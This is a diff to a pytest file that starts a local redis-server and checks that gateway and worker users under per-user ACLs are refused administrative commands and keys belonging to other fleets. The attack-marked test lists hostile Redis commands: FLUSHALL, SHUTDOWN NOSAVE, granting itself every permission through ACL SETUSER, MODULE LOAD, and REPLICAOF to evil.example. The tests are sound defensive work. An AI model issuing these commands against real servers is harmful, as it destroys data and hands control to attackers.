@@ -1,16 +1,26 @@
-"""The rendered redis.conf and password.conf, read by a real redis-server."""
+"""The rendered redis.conf, password.conf and users.conf, read by a real redis-server."""
 
 import base64
 import os
 import socket
 import subprocess
 import time
+from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
+import redis
+from redis.exceptions import AuthenticationError
 
 from flotilla_operator.workloads import agent_fleet as workloads
 from flotilla_runtime import contract
+from flotilla_runtime.agent.connections import connect
+from flotilla_runtime.agent.journal import CallKind, EndReason, Intended, TaskStatus
+from flotilla_runtime.agent.protocols import Finish
+from flotilla_runtime.agent.store import TaskStore
+from flotilla_runtime.agent.tasks import NewTask
 from tests.builders.agent_fleet import OWNER, spec_of
 from tests.builders.model_replica_set import IMAGES
 
@@ -43,12 +53,15 @@ def configuration(folder: Path, port: int) -> Path:
     """The files as the pod mounts them, with this test's paths and port."""
     config, *_ = workloads.redis_manifests(OWNER, spec_of().queue.redis, IMAGES)
     secret = workloads.password_secret(OWNER, "s3cret")
+    users = workloads.users_secret(OWNER, {"gateway": "s3cret-g", "worker": "s3cret-w"})
+    for made in (secret, users):
+        for name, content in made["data"].items():
+            (folder / name).write_bytes(base64.b64decode(content))
     (folder / "data").mkdir()
-    (folder / "password.conf").write_bytes(base64.b64decode(secret["data"]["password.conf"]))
     text = str(config["data"]["redis.conf"])
-    text = text.replace(contract.REDIS_SECRET_DIRECTORY, str(folder)).replace(
-        "dir /data", f"dir {folder}/data"
-    )
+    for directory in (f"{contract.REDIS_SECRET_DIRECTORY}-users", contract.REDIS_SECRET_DIRECTORY):
+        text = text.replace(directory, str(folder))
+    text = text.replace("dir /data", f"dir {folder}/data")
     (folder / "redis.conf").write_text(text.replace(f"port {contract.PORT_REDIS}", f"port {port}"))
     return folder / "redis.conf"
 
@@ -68,3 +81,118 @@ def ask(port: int, password: str, *command: str) -> str:
             return told.stdout.strip()
         assert time.monotonic() < end, told.stderr
         time.sleep(0.05)
+
+
+INTENT = Intended(at=1, call="answer/1", kind=CallKind.MODEL, target="llama", reserved_tokens=10)
+END = Finish(
+    status=TaskStatus.SUCCEEDED, reason=EndReason.COMPLETED, result={"answer": "so"}, busy_ms={}, calls={}
+)
+REFUSALS = (
+    "has no permissions",
+    "can't access at least one",
+    "not allowed from script",
+    "command not allowed",
+)
+PREFIX = "flotilla:{default/support}:"
+
+
+@pytest.fixture
+def port(tmp_path: Path) -> Iterator[int]:
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        number: int = listener.getsockname()[1]
+    config = configuration(tmp_path, number)
+    server = subprocess.Popen(["redis-server", str(config)], stdout=subprocess.DEVNULL)
+    ask(number, "s3cret", "ping")
+    yield number
+    server.kill()
+    server.wait()
+
+
+def client(port: int, user: str, password: str) -> Any:
+    return redis.Redis(port=port, username=user, password=password, decode_responses=True)
+
+
+@pytest.mark.attack("A gateway or worker that was taken over administers its Redis")
+@pytest.mark.parametrize("user", ["gateway", "worker"])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "CONFIG SET maxmemory 1",
+        "CONFIG GET *",
+        "ACL LIST",
+        "ACL SETUSER me on nopass +@all",
+        "FLUSHALL",
+        "SHUTDOWN NOSAVE",
+        "REPLICAOF evil.example 6379",
+        "MODULE LOAD /tmp/x.so",
+        "DEBUG SLEEP 1",
+        "MONITOR",
+        "KEYS *",
+        "CLIENT KILL ID 1",
+        "SCRIPT FLUSH",
+        "FUNCTION FLUSH",
+        "SAVE",
+        "SET other-fleets-key x",
+        "GET flotilla:{default/other}:task:1",
+        "PUBLISH flotilla:{default/other}:events x",
+        "EVAL redis.call('SET','elsewhere','x') 0",
+        "EVAL redis.call('CONFIG','GET','*') 0",
+    ],
+)
+def test_a_user_administers_nothing_and_touches_no_other_key(port: int, user: str, command: str) -> None:
+    link = client(port, user, f"s3cret-{user[0]}")
+    words = command.split(" ")
+    with pytest.raises(redis.ResponseError) as refused:
+        link.execute_command(*words)
+    assert any(said in str(refused.value) for said in REFUSALS), refused.value
+    everything = client(port, "default", "s3cret")
+    assert (everything.dbsize(), everything.config_get("maxmemory")) == (0, {"maxmemory": "429496729"})
+
+
+def test_each_user_has_its_own_password_and_the_one_of_before_still_opens(port: int) -> None:
+    for user, password in (("gateway", "s3cret-w"), ("worker", "s3cret-g"), ("worker", "s3cret")):
+        with pytest.raises(AuthenticationError):
+            client(port, user, password).ping()
+    assert client(port, "default", "s3cret").ping(), (
+        "pods of the release before go on until they are replaced"
+    )
+
+
+async def test_the_task_store_works_with_these_users(port: int, tmp_path: Path) -> None:
+    """What gateways and workers ask of the store: submission, claim, journal, end, figures, events."""
+    gateway, worker = (store_of(user, port, tmp_path) for user in ("gateway", "worker"))
+    new = NewTask(id="01t", input="why?", caller="ann", limits=contract.TaskLimits())
+    assert (await gateway.submit(new)).id == "01t"
+    await worker.wait_for_work(1)
+    (claim,) = await worker.claim("w1", 1)
+    loaded = await worker.load("01t")
+    assert loaded is not None
+    await worker.renew([claim])
+    await worker.append(claim, len(loaded.entries), [INTENT])
+    assert (await gateway.progress("01t", 0, 100))[0] is TaskStatus.RUNNING
+    await worker.finish(claim, END)
+    assert [one.status for one in await gateway.records(["01t"])] == [TaskStatus.SUCCEEDED]
+    assert await gateway.ids("ann", None, 10) == ["01t"]
+    assert (await gateway.submit(replace(new, id="02t"))).id == "02t"
+    assert await gateway.cancel("02t")
+    assert await gateway.figures()
+    assert await worker.forget_ended() == 0
+    channel = f"{PREFIX}events:01t"
+    heard = client(port, "gateway", "s3cret-g").pubsub()
+    heard.ssubscribe(channel)
+    assert client(port, "worker", "s3cret-w").execute_command("SPUBLISH", channel, "x") >= 0
+    assert client(port, "worker", "s3cret-w").execute_command("WAIT", 0, 10) == 0
+    for store in (gateway, worker):
+        await store.close()
+
+
+def store_of(user: str, port: int, folder: Path) -> TaskStore:
+    """The runtime's own store, with the user that the operator gives it."""
+    (folder / f"{user}-only").write_text(f"s3cret-{user[0]}")
+    config = contract.QueueConfig(
+        fleet="default/support",
+        url=f"redis://127.0.0.1:{port}/0",
+        user=user,
+        password_path=str(folder / f"{user}-only"),
+    )
+    return TaskStore(connect(config), config)
